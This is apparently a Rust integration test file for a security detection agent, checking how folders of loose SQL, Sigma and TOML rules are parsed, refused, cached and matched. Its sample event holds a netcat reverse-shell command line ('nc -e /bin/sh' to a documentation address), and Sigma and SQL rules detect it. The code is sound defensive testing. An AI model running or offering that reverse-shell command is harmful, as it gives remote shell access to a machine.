//! Folders of loose rules through the real program, and what is kept of them.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use daemoneye_bus::control::RuleState;
use daemoneye_host::catalog::folder::{self, Guard};
use daemoneye_host::catalog::{Catalog, Languages};
use daemoneye_host::judge::Judge;
use daemoneye_host::plugin::{RuleTemplate, Sandbox};
use daemoneye_host::sight::Sight;
use daemoneye_tests::{cache, component, plugins, program};
use serde_json::Value as Json;
use tempfile::TempDir;

/// A folder of rules, a cache of its own, and one event that is an attack.
struct Loose(TempDir);

const ATTACK: &str = r#"{"kind":"exec","name":"nc","command_line":"nc -e /bin/sh 192.0.2.1 9"}"#;
const SQL: &str = "SELECT pid FROM process_starts WHERE name = 'nc'\n";
const SIGMA: &str = "title: Netcat\nid: 0b2a5d0e-0000-4000-8000-000000000002\nlevel: critical\n\
    logsource: {category: process_creation}\n\
    detection:\n  sel:\n    CommandLine|contains: 'nc -e'\n  condition: sel\n";

impl Loose {
    fn new(files: &[(&str, &str)]) -> Self {
        let loose = Loose(tempfile::tempdir().expect("a folder"));
        fs::write(loose.path("events"), ATTACK).expect("written");
        // Compiled code is the same for every test; compiled rules are not.
        fs::create_dir_all(cache().join("modules")).expect("a folder");
        fs::create_dir(loose.path("cache")).expect("a folder");
        std::os::unix::fs::symlink(cache().join("modules"), loose.path("cache/modules"))
            .expect("a link");
        files.iter().for_each(|(name, text)| loose.put(name, text));
        loose
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    fn put(&self, name: &str, text: &str) {
        let file = self.path("rules").join(name);
        fs::create_dir_all(file.parent().expect("a folder")).expect("a folder");
        fs::write(file, text).expect("written");
    }

    fn replay(&self, more: &[&str]) -> Output {
        let mut command = Command::new(program("daemoneye-agent"));
        command.args(["--log-level", "error", "replay", "--pack"]).arg(self.path("rules"));
        command.arg("--plugins").arg(plugins()).arg("--cache").arg(self.path("cache"));
        command.arg("--events").arg(self.path("events")).args(more);
        command.output().expect("the agent starts")
    }

    /// The rules that find the attack.
    fn found(&self, more: &[&str]) -> (Vec<Json>, String) {
        let output = self.replay(&[&["--allow-unsigned"], more].concat());
        let said = said(&output);
        assert!(output.status.success(), "{said}");
        let lines = String::from_utf8_lossy(&output.stdout).into_owned();
        (lines.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect(), said)
    }

    fn plans(&self) -> PathBuf {
        self.path("cache/plans")
    }
}

fn said(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn a_folder_is_searched_and_each_language_is_told_by_the_ending() {
    let document = "id = \"doc\"\ntitle = \"T\"\nseverity = \"low\"\ntechniques = []\nwhy = \"w\"\n\
                    false_positives = []\nwindow = \"5m\"\nsql = \"\"\"\nSELECT pid FROM process_starts WHERE name = 'nc'\"\"\"\n";
    let loose = Loose::new(&[
        ("plain.sql", SQL),
        ("deep/er/netcat.yml", SIGMA),
        ("doc.toml", document),
        ("README.md", "no rule"),
    ]);
    let (found, said) = loose.found(&[]);
    let mut found: Vec<_> =
        found.iter().map(|f| format!("{} {} {}", f["rule"], f["title"], f["severity"])).collect();
    found.sort();
    let expected = [
        r#""0b2a5d0e-0000-4000-8000-000000000002" "Netcat" "critical""#,
        r#""doc" "T" "low""#,
        r#""plain" "plain" "medium""#,
    ];
    assert_eq!(found, expected);
    assert!(said.contains("1 other files are no rules"), "{said}");
}

#[test]
fn loose_rules_are_refused_without_the_flag() {
    let loose = Loose::new(&[("plain.sql", SQL)]);
    let trust = loose.path("trust");
    fs::create_dir(&trust).expect("a folder");
    let output = loose.replay(&["--trust", trust.to_str().expect("a path")]);
    assert_eq!(output.status.code(), Some(1));
    assert!(said(&output).contains("--allow-unsigned"), "{}", said(&output));
    assert_eq!(loose.replay(&[]).status.code(), Some(2), "wrong usage");
}

const BAD: &[(&str, &str, &str)] = &[
    ("bad.sql", "SELECT pid\nFROM process_starts WHERE nonsense = 1", "bad.sql:2:27: "),
    ("bad.yml", "title: x\n", "bad.yml:1:1: "),
    ("bad.toml", "id = 3\n", "bad.toml:1:6: key \"id\" holds integer, wanted text"),
    ("again.yml", SIGMA, "is taken by "),
];

#[test]
fn every_refused_file_is_told_with_its_place_and_nothing_is_judged() {
    let loose = Loose::new(&[("a.yml", SIGMA), ("plain.sql", SQL)]);
    BAD.iter().for_each(|(name, text, _)| loose.put(name, text));
    let output = loose.replay(&["--allow-unsigned"]);
    assert_eq!(output.status.code(), Some(65), "{}", said(&output));
    assert!(output.stdout.is_empty());
    for (name, _, place) in BAD {
        assert!(said(&output).contains(place), "{name}: {}", said(&output));
    }
    let twice = said(&output);
    assert!(twice.contains("again.yml") || twice.contains("a.yml:1:1"), "both are named: {twice}");

    let (found, said) = loose.found(&["--skip-refused"]);
    assert_eq!(found.len(), 2);
    assert!(said.contains("4 rules are refused"), "{said}");
}

fn compiled(said: &str) -> u64 {
    let (_, rest) = said.split_once("inert; ").expect("a line about the rules");
    rest.split(' ').next().and_then(|count| count.parse().ok()).expect("a count")
}

#[test]
fn what_was_compiled_once_is_known_and_one_new_rule_compiles_one() {
    let loose = Loose::new(&[("one.sql", SQL), ("two.sql", SQL)]);
    assert_eq!(compiled(&loose.found(&[]).1), 2);
    let (found, said) = loose.found(&[]);
    assert_eq!((found.len(), compiled(&said)), (2, 0));
    loose.put("three.sql", SQL);
    assert_eq!(compiled(&loose.found(&[]).1), 1);
    loose.put("three.sql", &SQL.replace("nc", "ncat"));
    let (found, said) = loose.found(&[]);
    assert_eq!((found.len(), compiled(&said)), (2, 1));
}

#[test]
fn damaged_kept_rules_are_compiled_again_and_find_the_same() {
    type Damage = fn(&Path);
    let table: [(&str, Damage); 4] = [
        ("a flipped byte", |file| {
            let mut bytes = fs::read(file).expect("kept");
            let last = bytes.len() - 1;
            bytes[last] ^= 1;
            fs::write(file, bytes).expect("written");
        }),
        ("a torn end", |file| {
            let bytes = fs::read(file).expect("kept");
            fs::write(file, &bytes[..bytes.len() - 3]).expect("written");
        }),
        ("another format", |file| fs::write(file, "x").expect("written")),
        ("no file", |file| fs::remove_file(file).expect("removed")),
    ];
    for (what, damage) in table {
        let loose = Loose::new(&[("one.sql", SQL)]);
        loose.found(&[]);
        damage(&loose.plans());
        let (found, said) = loose.found(&[]);
        assert_eq!((found.len(), compiled(&said)), (1, 1), "{what}");
        assert_eq!(compiled(&loose.found(&[]).1), 0, "{what}");
    }
}

#[test]
fn a_link_is_named_and_not_followed() {
    let loose = Loose::new(&[("plain.sql", SQL)]);
    let link = loose.path("rules/link.sql");
    std::os::unix::fs::symlink(loose.path("rules/plain.sql"), link).expect("a link");
    let output = loose.replay(&["--allow-unsigned"]);
    assert_eq!(output.status.code(), Some(65));
    assert!(
        said(&output).contains("link.sql:1:1: neither a file nor a folder"),
        "{}",
        said(&output)
    );
}

/// The engine here is a guest that takes one plan, and that only under a name it knows.
#[test]
fn a_rule_that_the_engine_does_not_take_costs_only_itself() {
    let loose = Loose::new(&[("obey.sql", SQL), ("unheard-of.sql", SQL)]);
    let sandbox = Sandbox::new(Some(&cache())).expect("a sandbox");
    let mut languages =
        Languages::load(&sandbox, &plugins(), Sight::Recorded, None).expect("languages");
    let (folder, endings) = (loose.path("rules"), languages.endings());
    let listing = folder::list(&folder, Guard::Owner, &endings).expect("a folder");
    let found: Vec<_> =
        listing.rules.iter().map(|(file, stamp)| folder::read(file, stamp, &endings)).collect();
    let mut catalog = Catalog::default();
    assert!(catalog.add_loose(&found, &mut languages).is_empty());

    let bytes = component("test/misbehaver.wasm");
    let engine = RuleTemplate::compile(&sandbox, "misbehaver", &bytes).expect("a plugin");
    let (judge, refused) = Judge::load(&engine, &mut catalog).expect("a judge");
    let [refusal] = refused.as_slice() else { panic!("{refused:?}") };
    assert!(refusal.file.ends_with("unheard-of.sql"), "{refusal}");
    assert!(refusal.to_string().contains("no mode \"unheard-of\""), "{refusal}");
    let states = judge.report().into_iter().map(|rule| (rule.id, rule.state));
    let expected =
        [("obey".to_owned(), RuleState::Active), ("unheard-of".to_owned(), RuleState::Refused)];
    assert_eq!(states.collect::<Vec<_>>(), expected);
}
